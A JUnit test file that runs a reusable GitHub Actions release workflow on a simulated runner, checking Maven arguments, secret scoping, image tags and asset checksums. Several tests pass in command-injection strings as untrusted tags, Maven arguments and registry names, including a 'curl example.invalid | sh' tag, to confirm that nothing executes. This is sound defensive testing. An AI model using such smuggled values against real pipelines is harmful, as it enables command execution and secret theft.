package dev.llmproxy.release.workflows;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.llmproxy.release.workflows.JobRunner.JobResult;
import dev.llmproxy.release.workflows.RunnerSandbox.MavenCall;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The reusable release workflow's jobs run for real, step by step, on an imitated runner ({@link RunnerSandbox}):
 * the shell steps as written in the workflow, {@code uses:} steps replaced by local stand-ins, {@code ./mvnw}
 * replaced by a stub that records its arguments. Includes the untrusted inputs of case W2.
 */
class ReleaseWorkflowStepsTest {
    private static final String ASSET_GLOBS = "llm-proxy-cli/target/llm-proxy-*.tar.gz, llm-proxy-cli/target/llm-proxy-*.zip,dist/*";
    private static final String MALICIOUS_TAG = "v1.0.0\";id;#";

    @TempDir
    Path temp;
    private RunnerSandbox sandbox;

    @BeforeEach
    void sandbox() {
        sandbox = new RunnerSandbox(temp, List.of("v1.2.3", "v1.5.0-rc.1", MALICIOUS_TAG));
    }

    private Map<String, Object> inputs(Object... pairs) {
        Map<String, Object> inputs = new HashMap<>(Map.of(
                "image-module", "llm-proxy-cli",
                "asset-globs", ASSET_GLOBS,
                "maven-args", "-Dx=$(touch${IFS}injected) -Dstyle.color=never"));
        for (int i = 0; i < pairs.length; i += 2) {
            inputs.put((String) pairs[i], pairs[i + 1]);
        }
        return inputs;
    }

    /** A {@code git show} format ({@code %H}, {@code %cI}) of the commit tagged v1.2.3 in the sample project. */
    private String taggedCommit(String format) {
        return Processes.check(List.of("git", "show", "-s", "--format=" + format, "v1.2.3^{commit}"), sandbox.projectOrigin).stdout().strip();
    }

    @Test
    void aPushedTagRunsVerifyImageAndReleaseStepsInOrder() {
        Map<String, JobResult> jobs = sandbox.runReusable("refs/tags/v1.2.3", inputs(), sandbox.jobContext());

        jobs.forEach((id, job) -> assertEquals("success", job.result(), id + ":\n" + job.log()));
        assertEquals(Map.of("tag", "v1.2.3", "version", "1.2.3"), jobs.get("verify").outputs());
        assertEquals(Map.of("image", "ghcr.io/example-org/app", "digest", "sha256:" + RunnerSandbox.DIGEST), jobs.get("image").outputs());
        assertEquals(List.of(
                "Check out the tagged commit with full history", "Set up Java", "Locate the release plugin source",
                "Check out the release plugin at this workflow's commit", "Install the release plugin",
                "Build the binaries and the SBOM", "Collect the assets and their checksums", "Attest build provenance of the assets",
                "Describe the image for the release notes", "Draft or publish the GitHub Release", "Summary"),
                jobs.get("release").stepNames("success"));
        assertEquals(Map.of("release-url", "https://github.com/Example-Org/app/releases/tag/v1.2.3"), jobs.get("release").outputs());
    }

    @Test
    void mavenRunsWithTheWorkflowsArgumentsAndTheTokenOnlyWhereNeeded() {
        sandbox.runReusable("refs/tags/v1.2.3", inputs(), sandbox.jobContext());

        List<MavenCall> calls = sandbox.mavenCalls();
        List<String> buildPlugin = List.of("-B", "-ntp", "-q", "install", "-pl", "release-maven-plugin", "-am", "-DskipTests");
        assertEquals(List.of(
                List.of("-B", "-ntp", "verify"),
                List.of("-B", "-ntp", "install", "-DskipTests"),
                buildPlugin,
                List.of("-B", "-ntp", "-N", "dev.llmproxy:release-maven-plugin:0.9.0:image", "-Drelease.image.version=1.2.3",
                        "-Drelease.image.registry=ghcr.io", "-Drelease.image.name=app",
                        "-Drelease.image.output=" + temp.resolve("job2/temp/image.txt")),
                List.of("-B", "-ntp", "-gs", temp.resolve("job2/temp/image-registry-login/settings.xml").toString(), "-pl", "llm-proxy-cli",
                        "jib:build", "-Djib.to.image=ghcr.io/example-org/app:1.2.3",
                        "-Dimage.version=1.2.3", "-Dimage.source=https://github.com/example-org/app",
                        "-Dimage.revision=" + taggedCommit("%H"), "-Dimage.created=" + taggedCommit("%cI"),
                        "-Djib.to.tags=1.2,1,latest"),
                buildPlugin,
                List.of("-B", "-ntp", "package", "-DskipTests"),
                List.of("-B", "-ntp", "dev.llmproxy:release-maven-plugin:0.9.0:draft",
                        "-Drelease.tag=v1.2.3", "-Drelease.publish=true", "-Drelease.push=false", "-Drelease.assets=" + ASSET_GLOBS,
                        "-Drelease.github.repository=Example-Org/app", "-Drelease.github.apiUrl=http://127.0.0.1:9/api/v3",
                        "-Drelease.notes.appendFile=" + temp.resolve("job3/temp/release-notes-extra.md"))),
                calls.stream().map(MavenCall::args).toList());
        assertEquals(List.of(false, false, false, false, false, false, false, true), calls.stream().map(MavenCall::token).toList(),
                "GITHUB_TOKEN only for the release");
        assertEquals(List.of(List.of(), List.of(), List.of(), List.of(), List.of("IMAGE_REGISTRY_PASSWORD"), List.of(), List.of(), List.of()),
                calls.stream().map(MavenCall::secrets).toList(), "the registry login only for the image push");
        String callerArgs = "-Dx=$(touch${IFS}injected) -Dstyle.color=never";
        assertEquals(List.of(callerArgs, callerArgs, "", callerArgs, callerArgs, "", callerArgs, callerArgs),
                calls.stream().map(MavenCall::mavenArgs).toList(),
                "the caller's maven-args for the caller's project only, never for the plugin's own build");
        assertTrue(calls.get(2).cwd().endsWith(".release-tooling"), "the plugin is built in its own checkout: " + calls.get(2));
    }

    @Test
    void aDraftsReleaseUrlIsTheReleasesPageWhereDraftsAreListed() {
        JobResult release = sandbox.runReusable("refs/tags/v1.2.3", inputs("publish", false), sandbox.jobContext()).get("release");

        assertEquals("success", release.result(), release.log());
        assertEquals(Map.of("release-url", "https://github.com/Example-Org/app/releases"), release.outputs());
        assertTrue(release.summary().contains("- Release: https://github.com/Example-Org/app/releases\n"), release.summary());
    }

    @Test
    void theImageJobLogsJibAndTheAttestationInWithNothingInTheCallersPom() throws Exception {
        JobResult image = sandbox.runReusable("refs/tags/v1.2.3", inputs(), sandbox.jobContext()).get("image");

        assertEquals("success", image.result(), image.log());
        Path settings = temp.resolve("job2/temp/image-registry-login/settings.xml");
        assertTrue(sandbox.setupJavaSettings.contains(settings), sandbox.setupJavaSettings.toString());
        String text = Files.readString(settings);
        assertTrue(text.contains("""
                      <id>ghcr.io</id>
                      <username>${env.IMAGE_REGISTRY_USERNAME}</username>
                      <password>${env.IMAGE_REGISTRY_PASSWORD}</password>
                """), text);
        assertFalse(text.contains(RunnerSandbox.TOKEN), "the token was written into settings.xml");
        assertEquals(List.of(new RunnerSandbox.RegistryLogin("ghcr.io", "release-bot", RunnerSandbox.TOKEN)), sandbox.attestationLogins);
        assertFalse(Files.exists(temp.resolve("job2/temp/docker-login")), "the attestation's registry login outlived its step");
    }

    @Test
    void registrySecretsReplaceTheDefaultLogin() {
        sandbox.secrets.put("image-registry-username", "robot");
        sandbox.secrets.put("image-registry-password", "registry-secret-0123");

        Map<String, JobResult> jobs = sandbox.runReusable("refs/tags/v1.2.3", inputs("image-registry", "registry.example.com:5000"),
                sandbox.jobContext());

        assertEquals("success", jobs.get("image").result(), jobs.get("image").log());
        assertEquals(List.of(new RunnerSandbox.RegistryLogin("registry.example.com:5000", "robot", "registry-secret-0123")),
                sandbox.attestationLogins);
        jobs.forEach((id, job) -> assertFalse(job.log().contains("registry-secret-0123"), id));
    }

    @Test
    void privateRepositorySecretsReachOnlyTheCallersMavenRunsAndAreNeverPrinted() {
        sandbox.secrets.put("maven-repository-username", "reader");
        sandbox.secrets.put("maven-repository-password", "repository-secret-0123");

        Map<String, JobResult> jobs = sandbox.runReusable("refs/tags/v1.2.3", inputs(), sandbox.jobContext());

        jobs.forEach((id, job) -> assertEquals("success", job.result(), id + ":\n" + job.log()));
        List<List<String>> secrets = sandbox.mavenCalls().stream().map(MavenCall::secrets).toList();
        List<String> repository = List.of("MAVEN_REPOSITORY_PASSWORD");
        assertEquals(List.of(repository, repository, List.of(), repository, List.of("IMAGE_REGISTRY_PASSWORD", "MAVEN_REPOSITORY_PASSWORD"),
                List.of(), repository, repository), secrets, "verify, install, plugin build, image name, push, plugin build, package, draft");
        jobs.forEach((id, job) -> assertFalse(job.log().contains("repository-secret-0123"), id));
    }

    @Test
    void aPreReleaseImageGetsOnlyItsVersionTag() {
        Map<String, JobResult> jobs = sandbox.runReusable("refs/tags/v1.5.0-rc.1", inputs(), sandbox.jobContext());

        assertEquals("success", jobs.get("image").result(), jobs.get("image").log());
        assertEquals(Map.of("image", "ghcr.io/example-org/app", "reference", "ghcr.io/example-org/app:1.5.0-rc.1",
                "additional-tags", "", "tags", "1.5.0-rc.1", "source", "https://github.com/example-org/app"),
                jobs.get("image").step("Name the image").outputs());
        List<String> jib = sandbox.mavenCalls().stream().map(MavenCall::args).filter(args -> args.contains("jib:build")).findFirst().orElseThrow();
        assertTrue(jib.contains("-Djib.to.image=ghcr.io/example-org/app:1.5.0-rc.1"), jib.toString());
        assertTrue(jib.stream().noneMatch(arg -> arg.startsWith("-Djib.to.tags")), jib.toString());
    }

    @Test
    void thePluginIsBuiltFromTheWorkflowsOwnCommitAndItsCheckoutRemoved() {
        Map<String, JobResult> jobs = sandbox.runReusable("refs/tags/v1.2.3", inputs(), sandbox.jobContext());

        assertTrue(sandbox.checkouts.contains(new RunnerSandbox.Checkout(Map.of(
                "repository", RunnerSandbox.TOOLING_REPOSITORY, "ref", sandbox.toolingSha,
                "path", ".release-tooling", "persist-credentials", "false"))), sandbox.checkouts.toString());
        assertEquals(Map.of("version", "0.9.0", "jar", temp.resolve("job3/temp/release-maven-plugin.jar").toString()),
                jobs.get("release").step("Install the release plugin").outputs());
        assertFalse(Files.exists(temp.resolve("job3/workspace/.release-tooling")));
    }

    @Test
    void aReleasedPluginVersionSkipsTheBuildFromSource() {
        Map<String, JobResult> jobs = sandbox.runReusable("refs/tags/v1.2.3", inputs("plugin-version", "2.0.0"), Map.of());

        for (String job : List.of("image", "release")) {
            JobResult result = jobs.get(job);
            assertEquals("success", result.result(), result.log());
            assertEquals(List.of("Locate the release plugin source", "Check out the release plugin at this workflow's commit"),
                    result.stepNames("skipped"));
        }
        List<List<String>> calls = sandbox.mavenCalls().stream().map(MavenCall::args).toList();
        List<String> copy = List.of("-B", "-ntp", "-q", "org.apache.maven.plugins:maven-dependency-plugin:3.8.1:copy",
                "-Dartifact=dev.llmproxy:release-maven-plugin:2.0.0");
        assertEquals(2, calls.stream().filter(args -> args.subList(0, Math.min(5, args.size())).equals(copy)).count(), calls.toString());
        assertTrue(calls.stream().anyMatch(args -> args.contains("dev.llmproxy:release-maven-plugin:2.0.0:draft")));
        assertTrue(calls.stream().anyMatch(args -> args.contains("dev.llmproxy:release-maven-plugin:2.0.0:image")), calls.toString());
        assertTrue(calls.stream().noneMatch(args -> args.contains("release-maven-plugin") && args.contains("install")), calls.toString());
    }

    @Test
    void withoutTheWorkflowCommitTheJobsThatNeedThePluginNameTheFix() {
        Map<String, JobResult> jobs = sandbox.runReusable("refs/tags/v1.2.3", inputs(), Map.of());
        JobResult release = sandbox.runReusable("refs/tags/v1.2.3", inputs("image-module", ""), Map.of()).get("release");

        for (JobResult job : List.of(jobs.get("image"), release)) {
            assertEquals("failure", job.result());
            assertEquals("failure", job.step("Locate the release plugin source").outcome());
            assertTrue(job.log().contains("set the plugin-version input"), job.log());
        }
    }

    @Test
    void assetsAreAttestedAndTheirChecksumsVerify() throws Exception {
        sandbox.runReusable("refs/tags/v1.2.3", inputs(), sandbox.jobContext());

        List<String> expected = List.of("llm-proxy-cli/target/llm-proxy-1.2.3.tar.gz", "llm-proxy-cli/target/llm-proxy-1.2.3.zip",
                "dist/EOF", "dist/name=value");
        assertEquals(List.of(List.of("ghcr.io/example-org/app@sha256:" + RunnerSandbox.DIGEST), expected), sandbox.attestedSubjects);
        Path sums = temp.resolve("job3/temp/release-assets.sha256");
        assertEquals(expected, Files.readAllLines(sums).stream().map(line -> line.substring(66)).toList());
        Processes.Result check = Processes.run(List.of("sha256sum", "--check", "--strict", sums.toString()), temp.resolve("job3/workspace"), null);
        assertEquals(0, check.exitCode(), check.output());
    }

    @Test
    void multiLineValuesCannotForgeOutputs() {
        JobResult release = sandbox.runReusable("refs/tags/v1.2.3", inputs(), sandbox.jobContext()).get("release");

        Map<String, String> outputs = release.step("Collect the assets and their checksums").outputs();
        assertEquals(List.of("count", "subjects"), List.copyOf(outputs.keySet()));
        assertEquals("4", outputs.get("count"));
        assertTrue(outputs.get("subjects").lines().toList().containsAll(List.of("dist/EOF", "dist/name=value")));
        assertEquals(List.of("release-url"), List.copyOf(release.step("Summary").outputs().keySet()));
    }

    @Test
    void theSummaryShowsVersionLinksImageChecksumsAndTheNotesLiterally() {
        JobResult release = sandbox.runReusable("refs/tags/v1.2.3", inputs(), sandbox.jobContext()).get("release");

        String summary = release.summary();
        assertAll(
                () -> assertTrue(summary.startsWith("# Release 1.2.3\n"), summary),
                () -> assertTrue(summary.contains("- Release: https://github.com/Example-Org/app/releases/tag/v1.2.3\n"), summary),
                () -> assertTrue(summary.contains("- Image: `ghcr.io/example-org/app@sha256:" + RunnerSandbox.DIGEST + "`\n"), summary),
                () -> assertTrue(summary.contains("- Run: https://github.com/Example-Org/app/actions/runs/4242\n"), summary),
                () -> assertTrue(summary.contains("  dist/name=value\n"), summary),
                () -> assertTrue(summary.endsWith("## Notes\n\n" + RunnerSandbox.read(Project.resource("runner/notes.md"))), summary));
        assertEquals("## Container image\n\n```\ndocker pull ghcr.io/example-org/app@sha256:" + RunnerSandbox.DIGEST + "\n```\n",
                RunnerSandbox.read(temp.resolve("job3/temp/release-notes-extra.md")));
    }

    @Test
    void withoutAnImageModuleTheImageJobIsSkippedAndTheNotesNameNoImage() {
        Map<String, JobResult> jobs = sandbox.runReusable("refs/tags/v1.2.3", inputs("image-module", ""), sandbox.jobContext());

        assertEquals("skipped", jobs.get("image").result());
        assertEquals("success", jobs.get("release").result(), jobs.get("release").log());
        assertEquals("", RunnerSandbox.read(temp.resolve("job3/temp/release-notes-extra.md")));
        assertFalse(jobs.get("release").summary().contains("- Image:"));
    }

    @Test
    void anAssetGlobWithoutAMatchFailsBeforeTheRelease() {
        JobResult release = sandbox.runReusable("refs/tags/v1.2.3", inputs("asset-globs", "dist/*,build/missing-*.jar"), sandbox.jobContext()).get("release");

        assertEquals("failure", release.step("Collect the assets and their checksums").outcome());
        assertTrue(release.log().contains("Glob without a match: build/missing-\\*.jar"), release.log());
        assertEquals("skipped", release.step("Draft or publish the GitHub Release").outcome());
    }

    @Test
    void anotherRegistryNamesTheImageThere() {
        Map<String, JobResult> jobs = sandbox.runReusable("refs/tags/v1.2.3", inputs("image-registry", "127.0.0.1:5000", "image-name", "Proxy"),
                sandbox.jobContext());

        assertEquals("127.0.0.1:5000/example-org/proxy", jobs.get("image").outputs().get("image"));
        assertTrue(jobs.get("release").summary().contains("- Image: `127.0.0.1:5000/example-org/proxy@sha256:"), jobs.get("release").summary());
    }

    @ParameterizedTest
    @ValueSource(strings = {"ghcr.io/evil", "ghcr.io;id", "$(id)"})
    void aRegistryThatIsNotAHostIsRefused(String registry) {
        JobResult image = sandbox.runReusable("refs/tags/v1.2.3", inputs("image-registry", registry), sandbox.jobContext()).get("image");

        assertEquals("failure", image.step("Name the image").outcome());
        assertTrue(image.log().contains("The image-registry input is not a registry host"), image.log());
        assertEquals(List.of(), sandbox.trapsSprung());
    }

    @Test
    void anImageNameThatCannotBeOneFailsTheStepWithTheGoalsReasonAndTheFix() {
        JobResult image = sandbox.runReusable("refs/tags/v1.2.3", inputs("image-name", "my app"), sandbox.jobContext()).get("image");

        assertEquals("failure", image.step("Name the image").outcome());
        assertTrue(image.log().contains("[ERROR] image name 'my app' cannot be part of an image name: use letters, digits and single"
                + " '.', '_' or '-' between them"), image.log());
        assertTrue(image.log().contains("::error::release:image could not name the image"), image.log());
        assertEquals("skipped", image.step("Push the image with Jib").outcome());
    }

    @Test
    void aPreReleaseTagIsAccepted() {
        Map<String, JobResult> jobs = sandbox.runReusable("refs/tags/v1.5.0-rc.1", inputs("image-module", ""), sandbox.jobContext());

        assertEquals(Map.of("tag", "v1.5.0-rc.1", "version", "1.5.0-rc.1"), jobs.get("verify").outputs());
        assertEquals("success", jobs.get("release").result(), jobs.get("release").log());
    }

    @Test
    void theTagInputWinsOverTheRefForCallersThatPushedTheTagThemselves() {
        Map<String, JobResult> jobs = sandbox.runReusable("refs/heads/main", inputs("tag", "v1.2.3"), sandbox.jobContext());

        assertEquals(Map.of("tag", "v1.2.3", "version", "1.2.3"), jobs.get("verify").outputs());
        assertEquals("success", jobs.get("release").result(), jobs.get("release").log());
    }

    @Test
    void aBranchRunWithoutTagInputIsRejected() {
        JobResult verify = sandbox.runReusable("refs/heads/main", inputs(), sandbox.jobContext()).get("verify");

        assertEquals("failure", verify.result());
        assertTrue(verify.log().contains("Not a tag run: push a tag vX.Y.Z or pass the 'tag' input."), verify.log());
    }

    @ParameterizedTest
    @ValueSource(strings = {MALICIOUS_TAG, "v1.0.0$(touch${IFS}injected)", "v1.0.0`id`", "v1.0.0\";curl example.invalid | sh;#",
        "1.2.3", "v1.02.0", "v1.0", "v1.0.0.1", "v1.0.0-01", "v1.0.0\nname=value"})
    void aTagThatIsNotSemVerIsRejectedBeforeAnythingElseAndNothingExecutes(String tag) {
        Map<String, JobResult> jobs = sandbox.runReusable("refs/tags/" + tag, inputs(), sandbox.jobContext());

        JobResult verify = jobs.get("verify");
        assertEquals("failure", verify.result());
        assertEquals("failure", verify.steps().get(0).outcome());
        assertEquals(List.of("Check out the tagged commit with full history", "Set up Java", "Build and test"), verify.stepNames("skipped"));
        assertTrue(verify.log().contains("The tag is not a release tag vMAJOR.MINOR.PATCH"), verify.log());
        assertFalse(verify.log().contains("uid="), verify.log());
        assertEquals(Map.of(), verify.steps().get(0).outputs());
        assertEquals("skipped", jobs.get("image").result());
        assertEquals("skipped", jobs.get("release").result());
        assertEquals(List.of(), sandbox.mavenCalls());
        assertEquals(List.of(), sandbox.checkouts);
        assertEquals(List.of(), sandbox.trapsSprung());
        assertFalse(Files.exists(temp.resolve("job1/workspace/injected")));
    }

    @Test
    void untrustedTextNeverExecutesAndTheTokenIsNeverPrinted() {
        Map<String, JobResult> jobs = sandbox.runReusable("refs/tags/v1.2.3", inputs(), sandbox.jobContext());

        assertEquals(List.of(), sandbox.trapsSprung(), "a W2 text was executed");
        try (var files = Files.walk(temp)) {
            assertEquals(List.of(), files.filter(file -> file.getFileName().toString().equals("injected")).toList());
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        jobs.forEach((id, job) -> {
            assertFalse(job.log().contains(RunnerSandbox.TOKEN), id);
            assertFalse(job.summary().contains(RunnerSandbox.TOKEN), id);
        });
    }
}
